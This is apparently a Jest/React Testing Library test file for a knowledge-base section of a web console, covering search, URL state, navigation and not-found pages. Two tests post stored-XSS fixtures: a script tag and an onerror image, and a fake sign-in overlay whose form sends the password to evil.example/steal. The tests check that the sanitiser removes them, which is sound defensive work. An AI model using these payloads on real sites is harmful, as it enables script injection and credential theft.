import { act, screen, waitFor, within } from '@testing-library/react';
import { contentPagesDomain } from '@console/mirage';
import { mockServerPerTest } from '@console/testing';
import { renderPages, slow } from '../test-kit';

mockServerPerTest(() => [contentPagesDomain()]);
jest.setTimeout(20_000);

declare global {
  interface Window {
    kbPwned?: boolean;
  }
}

describe('the knowledge base', () => {
  it('shows the categories, searched by title or description', async () => {
    const { user } = await renderPages('/pages/knowledge-base');
    const grid = await screen.findByRole('list', { name: 'Categories' }, slow);
    expect(within(grid).getAllByRole('link')).toHaveLength(6);
    await user.type(screen.getByRole('searchbox', { name: 'Search the knowledge base' }), 'encoder');
    await waitFor(() => expect(within(screen.getByRole('list', { name: 'Categories' })).getAllByRole('link').map((link) => link.textContent)).toEqual(['Live streaming']), slow);
    await user.clear(screen.getByRole('searchbox', { name: 'Search the knowledge base' }));
    await user.type(screen.getByRole('searchbox', { name: 'Search the knowledge base' }), 'zeppelin');
    expect(await screen.findByText('No categories match “\u2068zeppelin\u2069”.', {}, slow)).toBeInTheDocument();
  });

  it('opens with the search a link names (?q=)', async () => {
    await renderPages('/pages/knowledge-base?q=encoder');
    await waitFor(() => expect(within(screen.getByRole('list', { name: 'Categories' })).getAllByRole('link').map((link) => link.textContent)).toEqual(['Live streaming']), slow);
    expect(screen.getByRole('searchbox', { name: 'Search the knowledge base' })).toHaveValue('encoder');
  });

  it('keeps the search in the URL (replacing the entry as it is typed): Back from a category has it again', async () => {
    const { user, router } = await renderPages('/pages/knowledge-base');
    await screen.findByRole('list', { name: 'Categories' }, slow);
    await user.type(screen.getByRole('searchbox', { name: 'Search the knowledge base' }), 'encoder');
    await waitFor(() => expect(router.state.location.search).toBe('?q=encoder'), slow);
    expect(router.state.historyAction).toBe('REPLACE');
    await user.click(await screen.findByRole('link', { name: 'Live streaming' }, slow));
    expect(await screen.findByRole('heading', { level: 1, name: 'Live streaming' }, slow)).toBeInTheDocument();
    await act(() => router.navigate(-1));
    await waitFor(() => expect(within(screen.getByRole('list', { name: 'Categories' })).getAllByRole('link').map((link) => link.textContent)).toEqual(['Live streaming']), slow);
    expect(screen.getByRole('searchbox', { name: 'Search the knowledge base' })).toHaveValue('encoder');
  });

  it('goes from a category to a question and its related questions', async () => {
    const { user } = await renderPages('/pages/knowledge-base/live-streaming');
    expect(await screen.findByRole('heading', { level: 1, name: 'Live streaming' }, slow)).toBeInTheDocument();
    await user.click(screen.getByRole('link', { name: 'Can I use a backup stream?' }));
    expect(await screen.findByRole('heading', { level: 1, name: 'Can I use a backup stream?' }, slow)).toBeInTheDocument();
    expect(screen.getByText(/Turn on Redundant ingest/)).toBeInTheDocument();
    const related = screen.getByRole('region', { name: 'Related questions' });
    expect(within(related).getAllByRole('link')).toHaveLength(3);
    expect(within(screen.getByRole('navigation', { name: 'Breadcrumb' })).getByRole('link', { name: 'Live streaming' })).toHaveAttribute('href', '/pages/knowledge-base/live-streaming');
  });

  it('shows a stored article with a script and an onerror image sanitised: nothing runs, neither exists', async () => {
    await fetch('/faq/data/question', {
      method: 'POST',
      body: JSON.stringify({
        category: 'analytics',
        question: 'what-counts-as-a-view',
        content: '<p>Counted at 30 seconds.</p><script>window.kbPwned = true</script><img src="missing.png" alt="Chart" onerror="window.kbPwned = true">',
      }),
    });
    await renderPages('/pages/knowledge-base/analytics/what-counts-as-a-view');
    expect(await screen.findByText('Counted at 30 seconds.', {}, slow)).toBeInTheDocument();
    expect(screen.getByRole('img', { name: 'Chart' })).not.toHaveAttribute('onerror');
    expect(document.body.innerHTML).not.toMatch(/<script|onerror|kbPwned/);
    expect(window.kbPwned).toBeUndefined();
  });

  it('shows a stored article without its full-screen style overlay or its fake sign-in form', async () => {
    await fetch('/faq/data/question', {
      method: 'POST',
      body: JSON.stringify({
        category: 'analytics',
        question: 'what-counts-as-a-view',
        content:
          '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Your session has ended.</p>' +
          '<form action="https://evil.example/steal" aria-label="Sign in again"><label>Password <input type="password"></label><button>Sign in</button></form>' +
          '<p><a href="https://example.com/views" target="_top">How views are counted</a></p>',
      }),
    });
    await renderPages('/pages/knowledge-base/analytics/what-counts-as-a-view');
    const article = await screen.findByRole('article', { name: 'What counts as a view?' }, slow);
    expect(within(article).getByText('Your session has ended.')).not.toHaveAttribute('style');
    expect(within(article).queryByRole('form')).not.toBeInTheDocument();
    expect(within(article).queryByLabelText(/Password/)).not.toBeInTheDocument();
    expect(within(article).queryByRole('button', { name: 'Sign in' })).not.toBeInTheDocument();
    const link = within(article).getByRole('link', { name: 'How views are counted' });
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    expect(link).not.toHaveAttribute('target');
  });

  it.each([
    ['/pages/knowledge-base/boats', 'Category not found', 'This category does not exist.'],
    ['/pages/knowledge-base/analytics/no-such-question', 'Article not found', 'This article does not exist.'],
  ])('says %s does not exist, in its own words, with the way back to the knowledge base', async (path, title, text) => {
    await renderPages(path);
    expect(await screen.findByRole('heading', { level: 1, name: title }, slow)).toBeInTheDocument();
    expect(screen.getByText(text)).toBeInTheDocument();
    expect(screen.queryByRole('heading', { name: 'Page not found' })).not.toBeInTheDocument();
    // One way back, in the breadcrumb and the action: both to the knowledge base, none home.
    expect(screen.getByRole('link', { name: 'Back to the knowledge base' })).toHaveAttribute('href', '/pages/knowledge-base');
    expect(screen.getByRole('link', { name: 'Knowledge base' })).toHaveAttribute('href', '/pages/knowledge-base');
  });

  // A bookmarked link with a blank slug names no page: not a load failure to retry.
  it.each(['/pages/knowledge-base/%20', '/pages/knowledge-base/analytics/%20', '/pages/knowledge-base/%20/what-counts-as-a-view'])(
    'shows the not-found page, not a failure with Retry, for a blank slug in %s',
    async (path) => {
      await renderPages(path);
      expect(await screen.findByRole('heading', { level: 1, name: /^(Category|Article) not found$/ }, slow)).toBeInTheDocument();
      expect(screen.getByRole('link', { name: 'Back to the knowledge base' })).toHaveAttribute('href', '/pages/knowledge-base');
      expect(screen.queryByRole('button', { name: 'Retry' })).not.toBeInTheDocument();
    },
  );
});
